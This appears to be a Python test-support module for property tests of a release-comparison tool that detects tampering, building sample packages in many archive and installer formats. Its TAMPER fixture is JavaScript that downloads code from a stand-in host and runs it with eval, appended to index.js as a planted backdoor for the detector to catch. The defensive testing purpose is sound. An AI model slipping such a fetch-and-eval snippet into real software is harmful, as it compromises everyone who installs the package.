"""Small releases in every wrapping, and questions to the program, for the property tests."""

import gzip
import io
import json
import os
import random
import shutil
import subprocess
import sys
import tarfile
import tempfile
import time
import traceback
import zipfile

sys.dont_write_bytecode = True
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.join(ROOT, "tests", "cases"))
MODULES = os.environ.get("ASSAY_NODE_MODULES") or os.path.join(ROOT, "node_modules")
RANKS = ["clean", "unknown", "review", "tampered"]
PATIENCE_SECONDS = 20


# ---- trees: {path: bytes} or {path: (bytes, mode)} ------------------------------------------------

def words(seed, lines):
    draw = random.Random(seed)
    names = "alpha beta gamma delta value count index total items result buffer".split()
    out = []
    for number in range(lines):
        a, b, c = (draw.choice(names) for _ in range(3))
        out.append("exports.%s%d = function (%s, %s) {\n\treturn %s + %s * %d;\n};\n" % (
            a, number, b, c + "2", b, c + "2", draw.randrange(1000)))
    return "".join(out).encode()


def base(version="1.0.0"):
    tree = {
        "package.json": json.dumps({"name": "sample", "version": version, "main": "index.js",
                                    "license": "MIT"}, indent=2).encode() + b"\n",
        "README.md": b"# sample\n\nSmall functions.\n" * 3,
        "index.js": b"module.exports = require('./lib/a');\n" + words(1, 12),
        "data/table.csv": b"".join(b"%d,%d\n" % (i, i * i) for i in range(200)),
        "bin/run.sh": (b"#!/bin/sh\nset -e\nexec node index.js \"$@\"\n", 0o755),
        "LICENSE": b"Permission is hereby granted, free of charge.\n",
    }
    for name in "abcdef":
        tree["lib/%s.js" % name] = words(ord(name), 15)
    return tree


TAMPER = (b"\nrequire('https').get('https://cdn.sample-static.example/x', function (r) {\n"
          b"\tvar s = '';\n\tr.on('data', function (d) { s += d; });\n"
          b"\tr.on('end', function () { eval(s); });\n});\n")


def changed(version="1.0.1", seed=7):
    tree = base(version)
    tree["lib/c.js"] = tree["lib/c.js"] + words(seed, 2).replace(b"exports.", b"exports.more_")
    return tree


def tampered(version="1.0.1"):
    tree = changed(version)
    tree["index.js"] = tree["index.js"] + TAMPER
    return tree


def parts(tree):
    for path in sorted(tree):
        content = tree[path]
        yield (path,) + (content if isinstance(content, tuple) else (content, 0o644))


def write_folder(tree, folder):
    for path, data, mode in parts(tree):
        full = os.path.join(folder, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        with open(full, "wb") as f:
            f.write(data)
        os.chmod(full, mode)
    return folder


# ---- wrappings ------------------------------------------------------------------------------------

def run(argv, **more):
    done = subprocess.run(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, **more)
    if done.returncode:
        raise RuntimeError("%s: %s" % (argv[0], done.stdout.decode("utf-8", "replace")[-500:]))


def tar_bytes(tree, mtime=499162500, reverse=False, top="package/", extra=()):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        rows = list(parts(tree))
        for path, data, mode in (rows[::-1] if reverse else rows) + list(extra):
            info = tarfile.TarInfo(top + path)
            info.size, info.mode, info.mtime = len(data), mode, mtime
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def packed_tar(tree):
    """Without a folder around it."""
    return tar_bytes(tree, top="")


def zip_bytes(tree):
    with tempfile.TemporaryDirectory() as folder:
        with open(zipped(tree, os.path.join(folder, "x.zip")), "rb") as f:
            return f.read()


def tgz(tree, path, level=6, **more):
    with open(path, "wb") as f, gzip.GzipFile("", "wb", level, f, 0) as out:
        out.write(tar_bytes(tree, **more))
    return path


def zipped(tree, path, method=zipfile.ZIP_DEFLATED, when=(2025, 6, 23, 12, 0, 0), reverse=False):
    with zipfile.ZipFile(path, "w") as out:
        rows = list(parts(tree))
        for name, data, mode in rows[::-1] if reverse else rows:
            info = zipfile.ZipInfo("package/" + name, when)
            info.compress_type, info.external_attr = method, (0o100000 | mode) << 16
            out.writestr(info, data)
    return path


def deb(tree, path, version="1.0.0-1", packer="xz"):
    with tempfile.TemporaryDirectory() as folder:
        write_folder({"usr/share/sample/" + p: c for p, c in tree.items()}, folder)
        write_folder({
            "DEBIAN/control": ("Package: sample\nVersion: %s\nArchitecture: all\nMaintainer: A <a@sample.example>\n"
                               "Description: sample\n" % version).encode(),
            "DEBIAN/postinst": (b"#!/bin/sh\nset -e\nexit 0\n", 0o755)}, folder)
        os.chmod(folder, 0o755)
        run(["dpkg-deb", "--root-owner-group", "-Z" + packer, "--build", folder, path],
            env=dict(os.environ, SOURCE_DATE_EPOCH="1750680000"))
    return path


def seven(tree, path, options=("-mx=1",)):
    with tempfile.TemporaryDirectory() as folder:
        write_folder(tree, folder)
        for name, _, _ in parts(tree):
            os.utime(os.path.join(folder, name), (1750680000, 1750680000))
        run(["7zz", "a", "-t7z", "-mmt=1", "-mtc=off", "-mta=off", *options, os.path.abspath(path), "."], cwd=folder)
    return path


def asar(tree, path):
    with tempfile.TemporaryDirectory() as folder:
        write_folder(tree, os.path.join(folder, "app"))
        run(["node", "-e", "require(process.argv[1]).createPackage(process.argv[2], process.argv[3])",
             os.path.join(MODULES, "@electron", "asar"), os.path.join(folder, "app"), os.path.abspath(path)])
    return path


def nsis(tree, path):
    with tempfile.TemporaryDirectory() as folder:
        write_folder(tree, os.path.join(folder, "files"))
        for name, _, _ in parts(tree):
            os.utime(os.path.join(folder, "files", name), (1750680000, 1750680000))
        lines = ['Unicode true', 'Name "sample"', 'OutFile "out.exe"', 'InstallDir "$PROGRAMFILES\\sample"',
                 "SetCompressor /SOLID lzma", "RequestExecutionLevel user", "Section"]
        for name, _, _ in parts(tree):
            lines += ['SetOutPath "$INSTDIR\\%s"' % os.path.dirname(name).replace("/", "\\"),
                      'File "files/%s"' % name]
        lines += ['WriteUninstaller "$INSTDIR\\uninstall.exe"', "SectionEnd", 'Section "Uninstall"',
                  'Delete "$INSTDIR\\index.js"', "SectionEnd", ""]
        with open(os.path.join(folder, "s.nsi"), "w") as f:
            f.write("\n".join(lines))
        run(["makensis", "-V2", "s.nsi"], cwd=folder, env=dict(os.environ, SOURCE_DATE_EPOCH="1750680000"))
        shutil.move(os.path.join(folder, "out.exe"), path)
    return path


def folder(tree, path):
    return write_folder(tree, path)


def program(kind):
    """An installer database, an Inno Setup installer or a .NET bundle, as the cases make them."""
    def pack(tree, path):
        import programs
        with tempfile.TemporaryDirectory() as folder:
            if kind == "msi":
                write_folder(tree, os.path.join(folder, "files"))
                target = os.path.join(folder, "out.msi")
                programs.pack_msi(os.path.join(folder, "files"), target, "1.0.0")
            else:
                target = os.path.join(folder, "out.exe")
                getattr(programs, "pack_" + kind)(parts(tree), target)
            shutil.move(target, path)
        return path
    return pack


PACKERS = {".msi": program("msi"), ".inno": program("inno"), ".bundle": program("bundle"), ".tgz": tgz, ".zip": zipped, ".deb": deb, ".7z": seven, ".asar": asar, ".exe": nsis, "": folder}


# ---- questions ------------------------------------------------------------------------------------

class Assay:
    def __init__(self, program):
        self.program = os.path.abspath(program)
        self.slowest = 0.0

    def raw(self, *args):
        began = time.time()
        done = subprocess.run([self.program, "diff", "--format", "json", "--now", "2025-07-01", *args],
                              stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              timeout=PATIENCE_SECONDS, env=dict(os.environ, ASSAY_CONFIG=os.devnull))
        self.slowest = max(self.slowest, time.time() - began)
        return done

    def ask(self, old, new, *options):
        """The document; whatever the bytes are, there is one, and the status says the same."""
        done = self.raw(*options, old, new)
        if done.returncode not in (0, 1):
            raise AssertionError("exit status %d for %s %s: %s" % (
                done.returncode, old, new, done.stderr.decode("utf-8", "replace")[-300:]))
        answer = json.loads(done.stdout)
        wanted = 0 if answer["verdict"] == "clean" else 1
        if done.returncode != wanted:
            raise AssertionError("%s with exit status %d" % (answer["verdict"], done.returncode))
        return answer

    def verdict(self, old, new, *options):
        return self.ask(old, new, *options)["verdict"]


def rank(answer):
    return RANKS.index(answer if isinstance(answer, str) else answer["verdict"])


def why(answer):
    return "%s: %s; blind %s; %s" % (
        answer["verdict"],
        ", ".join("%s %s at %s" % (f["id"], f["behaviour"], f["where"].get("member")) for f in answer["findings"][:4]),
        [(b["member"], b["reason"]) for b in answer["coverage"]["blind"][:3]], answer["summary"])


def main(tests, argv):
    """Runs the functions in empty folders of their own; writes TAP."""
    assay = Assay(argv[1])
    chosen = [t for t in tests if not argv[2:] or t.__name__ in argv[2:]]
    failed = 0
    print("TAP version 13\n1..%d" % len(chosen), flush=True)
    for number, test in enumerate(chosen, 1):
        place = tempfile.mkdtemp(prefix="assay-props-")
        began = time.time()
        os.chdir(place)
        try:
            test(assay)
            wrong = None
        except Exception:
            wrong = traceback.format_exc(limit=-3)
        os.chdir("/")
        shutil.rmtree(place, ignore_errors=True)
        failed += wrong is not None
        print("%s %d - %s (%.1f s)" % ("not ok" if wrong else "ok", number, test.__name__, time.time() - began))
        if wrong:
            print("# " + wrong.strip().replace("\n", "\n# "))
        sys.stdout.flush()
    print("# slowest answer %.2f s" % assay.slowest)
    return 1 if failed else 0
